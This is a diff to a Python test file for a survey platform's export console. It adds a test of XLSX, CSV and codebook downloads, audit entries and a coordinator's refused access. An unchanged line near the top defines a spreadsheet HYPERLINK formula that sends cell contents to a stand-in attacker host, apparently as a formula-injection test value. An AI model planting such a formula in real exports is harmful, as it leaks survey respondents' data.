@@ -18,6 +18,7 @@ from sqlalchemy import select
 from storage.models import Answer, AuditEntry, Respondent, Submission, SurveyVersion
 from survey_flows.codebook import codebook
 from survey_flows.xlsform import load_flow
+from tests.console_user import ConsoleUser, add_account
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
 
@@ -344,3 +345,53 @@ def _typed(rows: list[dict[str, str]]) -> list[dict[str, object]]:
                 cells[key] = value
         typed.append(cells)
     return typed
+
+
+def test_a_researcher_downloads_from_the_console_and_a_coordinator_cannot(
+    app, answered, tmp_path
+) -> None:
+    """The console's export page: the XLSX for the carriage drivers downloads with its sheets,
+    audited under the researcher's name; a filter that leaves nothing says so; coordinators,
+    who see contact details, get no answers to take away."""
+    add_account(app, "research@example.org", "researcher")
+    add_account(app, "coord@example.org", "coordinator")
+    researcher = ConsoleUser(app)
+    researcher.sign_in("research@example.org")
+    researcher.get("/console/exports")
+    got = researcher.post(
+        "/console/exports",
+        {"survey": "livelihood", "format": "xlsx", "layout": "wide", "groups": "carriage"},
+    )
+    assert got.status_code == 200 and "attachment" in got.headers["Content-Disposition"]
+    out = tmp_path / "console.xlsx"
+    out.write_bytes(got.data)
+    book = openpyxl.load_workbook(out)
+    assert book.sheetnames == ["data", "codebook"]
+    assert book["data"].max_row == 3  # the header and the driver's two
+    researcher.get("/console/exports")
+    nothing = researcher.post(
+        "/console/exports",
+        {
+            "survey": "livelihood",
+            "format": "csv",
+            "layout": "wide",
+            "municipalities": "khelang",
+            "groups": "carriage",
+        },
+    )
+    assert "ไม่มีชุดคำตอบที่ตรงกับที่เลือก" in nothing.get_data(as_text=True)
+    codebook_file = researcher.post(
+        "/console/exports", {"survey": "livelihood", "format": "codebook", "layout": "wide"}
+    )
+    assert codebook_file.data.decode("utf-8-sig").startswith("name,label_th,label_en")
+    with app.extensions["runtime"].db() as session:
+        entries = session.scalars(
+            select(AuditEntry).where(AuditEntry.action == "export.written")
+        ).all()
+    assert [(e.actor, e.detail["format"]) for e in entries] == [
+        ("research@example.org", "xlsx"),
+        ("research@example.org", "codebook"),
+    ]
+    coordinator = ConsoleUser(app)
+    coordinator.sign_in("coord@example.org")
+    assert coordinator.get("/console/exports").status_code == 403
